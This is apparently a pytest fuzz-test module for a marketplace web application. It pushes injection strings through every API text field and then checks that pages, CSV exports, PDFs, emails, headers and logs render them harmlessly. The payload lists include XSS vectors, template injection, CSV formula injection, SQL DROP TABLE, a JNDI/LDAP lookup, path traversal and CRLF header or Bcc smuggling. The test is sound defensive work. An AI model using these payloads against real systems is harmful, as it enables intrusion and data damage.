"""Strings that mean something elsewhere, into every field; then a look at all that comes out."""

import csv
import io
import itertools
import re
from typing import Any

import pytest
import structlog
from flask.testing import FlaskClient
from marshmallow import ValidationError
from pypdf import PdfReader
from sqlalchemy import select
from werkzeug.http import parse_options_header

from marketplace.bootstrap import channel_of
from marketplace.core.db import Base
from marketplace.web import openapi
from marketplace.web.fields import Email, Password, Text
from tests.conftest import Client
from tests.fuzz.filling import Filler, send_until_taken, texts_in
from tests.fuzz.sizes import LONG, draw, tries
from tests.fuzz.test_parsers import schemas
from tests.fuzz.world import World, table_of
from tests.jobs import do_jobs
from tests.pages.browser import Browser, Page
from tests.pdfs import a_pdf
from tests.people import PASSWORD, a_person, an_admin

MARK = "zq7"
"""Stands in every one of them, and nowhere else in the product."""

PAYLOADS = [
    f"""{MARK}"'><img src=x onerror={MARK}>""",
    f"<script>{MARK}</script>",
    f"</textarea></title></style><{MARK} {MARK}=1>",
    f"' onfocus={MARK} autofocus='",
    f"{MARK}{{{{7*7}}}}${{7*7}}<%=7*7%>#{{7*7}}",
    f"{MARK} #sys.version $x$ #read(\"/etc/hostname\") \\ *b* _i_ @x <y>",
    f'=HYPERLINK("https://{MARK}.example","{MARK}")',
    f"+{MARK}|' /C calc'!A0",
    f"@SUM({MARK})",
    f"-2+3+cmd|{MARK}",
    f"'; DROP TABLE leads; -- {MARK}",
    f"${{jndi:ldap://{MARK}.example/a}}",
    f"../../../etc/{MARK}",
    f"javascript:{MARK}(1)",
    f"{MARK} %s %(x)s %n {{0}} {{x}}",
    f"{MARK}👩‍🔬 שלום مرحبا",
]  # fmt: skip

REFUSED = [
    f"{MARK}\r\nX-Injected: {MARK}", f"{MARK}\nBcc: all@{MARK}.example", f"{MARK}\x00",
    f"{MARK}\x1b[31m",
    f"{MARK}\u202e", f"{MARK}\u2028{MARK}", f"{MARK}\ud800", f"{MARK}\x7f",
    f"{MARK}\ufeff{MARK}", f"{MARK}\t{MARK}",
]  # fmt: skip
"""What no text on one line may hold."""

FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


def text_fields() -> list[tuple[str, Text]]:
    """Return every field of free text by which something comes in."""
    found = []
    for schema in schemas():
        for name, each in schema().fields.items():
            for inner in (each, getattr(each, "inner", None)):
                # A password is taken as it is typed, and shown nowhere.
                if isinstance(inner, Text) and not isinstance(inner, Password):
                    found.append((f"{schema.__module__}.{schema.__name__}.{name}", inner))
    return found


UNSEEN = r"[\x00-\x09\x0b-\x1f\x7f\u2028\u202e\ud800\ufeff]"


def taken(each: Text, text: str) -> str | None:
    """Return what a field makes of a text, or None where it refuses it."""
    try:
        return each.deserialize(text)
    except ValidationError:
        return None


def test_no_text_on_one_line_takes_what_would_begin_another_or_is_not_seen(counted, app):
    found = text_fields()
    assert len(found) > 30
    with app.test_request_context():
        for name, each in found:
            for hostile in REFUSED:
                kept = taken(each, hostile)
                assert kept is None or each.lines, (name, hostile)
                assert not re.search(UNSEEN, kept or ""), (name, hostile)
                counted["texts at fields"] += 1
            if isinstance(each, Email):
                for hostile in (*PAYLOADS, *(f"{p}@{MARK}.example" for p in PAYLOADS)):
                    kept = taken(each, hostile)
                    assert not re.search(r"[<>\"\s]", kept or ""), (name, kept)
                    counted["texts at fields"] += 1


class Injection:
    """Sends payloads by every operation that takes a body, and keeps what was taken."""

    def __init__(self, world: World, counted: Any) -> None:
        self.world, self.counted = world, counted
        self.client = Client(world.app, world.app.response_class)
        self.spec = self.client.get("/api/openapi.json").json
        self.chance = draw("injection")
        self.turn = itertools.cycle(PAYLOADS)
        self.taken: set[str] = set()
        self.operations: set[str] = set()

    def go(self) -> None:
        for path, method, operation in openapi.operations(self.spec):
            content = operation.get("requestBody", {}).get("content", {}).get("application/json")
            if content is None or path.startswith(("/api/v1/sessions", "/api/v1/password")):
                continue
            schemes = {name for choice in operation["security"] for name in choice}
            role = (
                "nobody" if not schemes
                else "business" if "requestToken" in schemes
                else "admin" if "/admin/" in path
                else "owner"
            )  # fmt: skip
            if not self.world.is_whole(role):
                self.world.renew(role)
            self._send(path, method, content["schema"], role)

    def quote_with_it(self) -> None:
        """Let the provider of this world quote under the request that it has now."""
        path = "/api/v1/portal/invitations/{invitation_id}/quote"
        (content,) = self.spec["paths"][path]["put"]["requestBody"]["content"].values()
        table = Base.metadata.tables["invitations"]
        mine = select(table.c.id).where(
            table.c.lead_id == self.world.lead.id, table.c.provider_id == self.world.own.id
        )
        (held,) = self.world.make.ask(lambda session: session.scalars(mine).all())
        filler = Filler(self.spec, lambda name, segment="": str(held), lambda: next(self.turn))
        body = filler.value(content["schema"], "")
        body |= {
            "kind": "consulting",
            "phases": [{"name": next(self.turn), "days": 2, "fee": "9.00"}],
        }
        body |= {"notes": " ".join(PAYLOADS), "exclusions": [PAYLOADS[5]]}
        where = path.replace("{invitation_id}", str(held))
        answer, _ = send_until_taken(
            lambda sent: self.client.put(where, json=sent, headers=self.world.headers["owner"]),
            body,
            MARK,
        )
        assert answer.status_code == 200, answer.text

    def _send(self, path: str, method: str, schema: Any, role: str) -> None:
        def id_for(name: str, segment: str = "") -> str:
            for _ in range(9):
                found = self.world.somebodys_id(name, segment, role, self.chance)
                if self.chance.random() < 0.8:
                    return found
            return found

        filler = Filler(self.spec, id_for, lambda: next(self.turn))
        where = re.sub(r"([^/]+)/\{(\w+)\}", lambda m: f"{m[1]}/{id_for(m[2], m[1])}", path)
        if path.endswith("{code}"):
            where = path.replace("{code}", "17" if "sectors" in path else "JASANZ")
        answer, body = send_until_taken(
            lambda sent: self.client.open(
                where, method=method.upper(), json=sent, headers=self.world.headers[role]
            ),
            filler.value(schema, ""),
            MARK,
        )
        self.counted["bodies"] += 1
        assert answer.status_code < 500, (method, path, body, answer.text)
        if answer.status_code < 300:
            self.operations.add(f"{method} {path}")
            texts = [text for text in texts_in(body) if MARK in text]
            self.taken.update(texts)
            self.counted["texts taken"] += len(texts)


@pytest.fixture
def injected(world, ctx, installation, counted):
    """A marketplace into which everything was put that its fields take."""
    injection = Injection(world, counted)
    for _ in range(tries(1, 4)):
        injection.go()
    # What was sent may have ended the request: its quotes are looked at on paper as well.
    world.build()
    injection.quote_with_it()
    # A file is named by whoever sends it.
    lead = world.lead
    for each in world.make.ask(
        lambda s: s.execute(select(Base.metadata.tables["invitations"])).all()
    ):
        if each.lead_id == lead.id and each.provider_id == world.own.id:
            answer = injection.client.post(
                f"/api/v1/portal/invitations/{each.id}/attachments",
                data={"file": (io.BytesIO(a_pdf(mark="q")), f'{MARK}";\r\nX-Injected: {MARK}.pdf')},
                headers=world.headers["owner"],
            )
            counted["files"] += answer.status_code == 201
    do_jobs(ctx, channel_of(installation.settings))
    assert len(injection.operations) > 10, injection.operations
    assert len(injection.taken) > 10
    return injection


def readers(world: World) -> dict[str, FlaskClient]:
    """Return a client for everybody: pages by cookie, the API by token beside it."""
    found = {}
    for role, person in (
        ("owner", a_person(world.ctx, world.own.contact_email, provider_id=world.own.id)),
        ("admin", an_admin(world.ctx, "eve@marketplace.example")),
    ):
        browser = Browser(Client(world.app, world.app.response_class))
        browser.open("/sign-in")
        assert browser.send("/sign-in", email=person.email, password=PASSWORD).status == 200
        found[role] = browser.client
    browser = Browser(Client(world.app, world.app.response_class))
    token = world.headers["business"]["Authorization"].removeprefix("Bearer ")
    assert browser.open(f"/requests/open/{token}").status == 200
    return {
        **found,
        "business": browser.client,
        "nobody": Client(world.app, world.app.response_class),
    }


def addresses(world: World, role: str) -> list[str]:
    """Return every address that can be read, with ids of things there are."""
    found = []
    for rule in world.app.url_map.iter_rules():
        if (
            "GET" not in rule.methods
            or "token" in rule.arguments
            or rule.endpoint.endswith("static")
        ):
            continue
        if not rule.arguments:
            found.append(rule.rule)
            continue
        several = {}
        for name in rule.arguments:
            segment = rule.rule.partition(f":{name}>")[0].rpartition("/")[0].rpartition("/")[2]
            table = table_of(name, segment) if name.endswith("_id") else None
            if table is None:
                several[name] = ["coverage", "1"]
                continue
            key = table.c[name] if name in table.c else next(iter(table.primary_key.columns))
            rows = select(key).order_by(key.desc()).limit(10 if LONG else 1)
            several[name] = [
                str(each) for each in world.make.ask(lambda s, r=rows: s.scalars(r).all())
            ]
        for values in itertools.product(*several.values()):
            address = rule.rule
            for name, value in zip(several, values, strict=True):
                address = re.sub(rf"<[^<>]*\b{name}>", value, address)
            found.append(address)
    found += [f"{each}?format=csv" for each in found if "/api/v1/admin/reports/" in each]
    return found


def test_whatever_was_put_in_comes_out_as_what_it_is(injected, world, counted):
    seen = set()
    with structlog.testing.capture_logs() as lines:
        for role, client in readers(world).items():
            for address in addresses(world, role):
                headers = world.headers[role] if address.startswith("/api/") else {}
                answer = client.get(address, headers=headers)
                body = answer.get_data()
                answer.close()  # of files, which the server streams
                if answer.status_code >= 400:
                    assert answer.status_code < 500, (role, address, answer.text)
                    continue
                counted["answers looked at"] += 1
                counted["answers with it in them"] += MARK.encode() in body
                seen.add(look_at(address, answer))
    assert seen >= {"text/html", "application/json", "text/csv", "application/pdf"}, seen
    look_at_mails(injected, counted)
    # Nobody logs what people write.
    assert not [line for line in lines if MARK in str(line)]


def look_at(address: str, answer: Any) -> str:
    """Look at one answer, by what it is."""
    for name, value in answer.headers:
        assert "\n" not in value
        assert name.lower() != "x-injected"
        if MARK in value:
            kind, options = parse_options_header(value)
            assert kind == "attachment", (address, name, value)
            assert set(options) <= {"filename"}, (address, value)
    if answer.mimetype in ("text/html", "image/svg+xml"):
        look_at_page(address, answer)
    elif answer.mimetype == "text/csv":
        for row in csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))):
            for cell in row:
                assert not (MARK in cell and cell.startswith(FORMULA)), (address, cell)
    elif answer.mimetype == "application/pdf":
        look_at_paper(address, answer)
    return answer.mimetype


def look_at_page(address: str, answer: Any) -> None:
    html = answer.text
    for payload in PAYLOADS:
        if re.search(r"[<>\"'&]", payload):
            assert payload not in html, (address, payload)
    assert not re.search(rf"<[^<>a-z]*/?{MARK}|<(img|script)[^<>]*{MARK}", html), address
    page = Page(answer, address)
    for tag, attributes in page.elements:
        assert MARK not in tag, address
        for name, value in attributes.items():
            assert MARK not in name, (address, tag, attributes)
            assert not (name.startswith("on") and MARK in value), (address, tag, attributes)
            if name in ("href", "src", "action", "formaction") and MARK in value:
                assert not re.match(r"\s*(javascript|data|vbscript):", value, re.I), (
                    address,
                    value,
                )
    assert f"{MARK}49" not in html


def look_at_paper(address: str, answer: Any) -> None:
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(answer.data)).pages)
    assert f"{MARK}49" not in text
    if "#sys" in text:
        assert "#sys.version" in text


def look_at_mails(injected: Injection, counted: Any) -> None:
    """Look at every mail that has come of it: they say it, and do nothing else."""
    letters = injected.client.get("/mailbox/messages?limit=100").json["items"]
    for letter in letters:
        counted["mails looked at"] += 1
        counted["mails with it in them"] += MARK in str(letter)
        assert not re.search(r"[\r\n\x00-\x1f]", letter["subject"]), letter["subject"]
        assert not re.search(r"[\r\n\x00-\x1f<>]", letter["to"]), letter["to"]
        html = letter["html"] or ""
        for payload in PAYLOADS:
            if re.search(r"[<>\"']", payload):
                assert payload not in html, (letter["template"], payload)
        assert not re.search(rf"</?{MARK}|<(img|script)[^<>]*{MARK}", html), letter["template"]
        assert f"{MARK}49" not in html + letter["text"] + letter["subject"]
        for target in re.findall(r'(?:href|src)="([^"]*)"', html):
            assert not target.startswith(("javascript:", "data:")), (letter["template"], target)
    assert any(MARK in str(letter) for letter in letters)
